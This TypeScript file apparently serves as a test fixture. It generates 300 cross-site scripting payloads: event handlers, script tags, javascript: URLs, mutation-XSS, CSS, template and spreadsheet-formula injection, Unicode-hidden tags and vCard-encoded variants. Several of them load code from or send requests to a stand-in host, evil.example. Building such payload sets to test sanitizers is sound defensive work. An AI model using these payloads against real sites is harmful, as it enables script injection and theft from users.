/*
 * These texts run a script if they are interpreted as HTML, a URL or a template. A script that runs calls `__ran`,
 * opens a dialog or sends a request to `evil.example`.
 */

const RUN = '__ran(1)'
const EVIL = '//evil.example/x'

const pairs = (left: readonly string[], right: readonly string[], join: (one: string, other: string) => string) =>
  left.flatMap((one) => right.map((other) => join(one, other)))

const handled = pairs(
  [
    'img src=x',
    'svg',
    'video src=x',
    'details open',
    'input autofocus',
    'body',
    'a href=#',
    'marquee',
    'math',
    'x-tag',
  ],
  ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onpointerenter'],
  (tag, event) => `<${tag} ${event}=${RUN}>tap</${tag.split(' ')[0]}>`,
)

const written = pairs(
  [
    `onerror="${RUN}"`,
    `onerror='${RUN}'`,
    `onerror=\`${RUN}\``,
    `OnErRoR=${RUN}`,
    `onerror\n=\n${RUN}`,
    `onerror=&#95;_ran(1)`,
    `onerror=&#x5f;&#x5f;ran&lpar;1&rpar;`,
    `onerror=\\u005f_ran(1)`,
    `onerror=eval(atob('X19yYW4oMSk='))`,
    `onerror=alert(1)`,
    `onerror="fetch('${EVIL}')"`,
    `onerror=import('${EVIL}')`,
  ],
  ['<img src=x ATTR>', '<img/src=x/ATTR>', '<img\tsrc="x"\tATTR x="', '"><img src=x ATTR>'],
  (attribute, tag) => tag.replace('ATTR', attribute),
)

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<script src=${EVIL}></script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<script>\u2028${RUN}</script>`,
  `<script>${RUN}<!--`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} />`,
  `<svg><script xlink:href=${EVIL} />`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
]

const addresses = pairs(
  [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `java\nscript:${RUN}`,
    ` javascript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `&#106;avascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `javascript&#58;${RUN}`,
    `javascript://x.example/%0a${RUN}`,
    `data:text/html,<script>parent.${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19yYW4oMSk8L3NjcmlwdD4=`,
    `vbscript:${RUN}`,
  ],
  ['<a href="URL">tap</a>', '[tap](URL)', '<URL>', '![tap](URL)', 'URL', '<iframe src="URL"></iframe>'],
  (url, carrier) => carrier.replace('URL', () => url),
)

const mutating = [
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>tap</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'/></svg>#x">`,
  `<svg><desc><![CDATA[</desc><img src=x onerror=${RUN}>]]></svg>`,
  `<math href="javascript:${RUN}">tap</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<table><td background="javascript:${RUN}"><tr><img src=x onerror=${RUN}>`,
  `<p id="<img src=x onerror=${RUN}>">`,
]

const loading = [
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data=${EVIL} onerror=${RUN}></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href=https:${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=https:${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=https:${EVIL}>`,
  `<link rel=preload as=script href=https:${EVIL}>`,
  `<form action="javascript:${RUN}"><button>tap</button></form>`,
  `<form action=https:${EVIL}><input type=submit value=tap></form>`,
  `<button formaction="javascript:${RUN}" form=x>tap</button>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<img src=https:${EVIL}>`,
  `<img srcset="https:${EVIL} 1x">`,
  `<video poster=https:${EVIL}></video>`,
  `<video><source onerror=${RUN} src=x></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<body background=https:${EVIL}>`,
  `<frameset onload=${RUN}><frame src=x>`,
  `<portal src=https:${EVIL} onload=${RUN}>`,
]

const styles = [
  `<style>@import "https:${EVIL}";</style>`,
  `<style>*{background:url(https:${EVIL})}</style>`,
  `<style onload=${RUN}></style>`,
  `<p style="background:url(https:${EVIL})">`,
  `<p style="width:expression(${RUN})">`,
  `<p style="-moz-binding:url(https:${EVIL})">`,
  `<p style=animation-name:rotation onanimationstart=${RUN}>`,
  `<p style="position:fixed;inset:0" onclick=${RUN}>`,
  `";}*{background:url(https:${EVIL})}`,
  `</style><img src=x onerror=${RUN}>`,
]

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{${RUN}}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{count, plural, other {<img src=x onerror=${RUN}>}}`,
  `<0><img src=x onerror=${RUN}></0>`,
  `';${RUN};'`,
  `";${RUN};//`,
  `\`-${RUN}-\``,
  `</b><img src=x onerror=${RUN}><b>`,
  `__proto__[onerror]=${RUN}`,
  `=HYPERLINK("javascript:${RUN}")`,
  `@SUM(1)|cmd '${RUN}'`,
]

const hidden = [
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `\u200b<scr\u200bipt>${RUN}</script>`,
  `<img\u00a0src=x onerror=${RUN}>`,
  `<img src=x\u2028onerror=${RUN}>`,
  `\u2066</p><img src=x onerror=${RUN}>\u2069`,
  `\ufeff<svg/onload=${RUN}>`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u0131mg src=x onerror=${RUN}>`,
  `https://evil.example\u202e@parley.example/<img src=x onerror=${RUN}>`,
  `\u0301<img src=x onerror=${RUN}>`,
]

const broken = [
  `<img src=x onerror=${RUN}//`,
  `<img src=x onerror=${RUN} `,
  `<<img src=x onerror=${RUN}>>`,
  `<img """><script>${RUN}</script>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?x onerror=${RUN}?>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]>&y;`,
  `<a href='x' onmouseover=${RUN} href="#">tap`,
  `<div><p title='</div><img src=x onerror=${RUN}>'>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>">`,
]

/** Payloads for the line folding, escaping and encoding of vCards. */
const folded = [
  `x;TYPE="<img src=x onerror=${RUN}>"`,
  `x\\n<img src=x onerror=${RUN}>`,
  `<img src=x =0Aonerror=3D${RUN}>`,
  `<img src=3Dx onerror=3D${RUN}>`,
  `<img src=x on\\;error=${RUN}>`,
  `<img src=x \\,onerror=${RUN}>`,
]

/** 300 distinct payloads. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...new Set([
    ...handled,
    ...written,
    ...scripts,
    ...addresses,
    ...mutating,
    ...loading,
    ...styles,
    ...templates,
    ...hidden,
    ...broken,
    ...folded,
  ]),
]
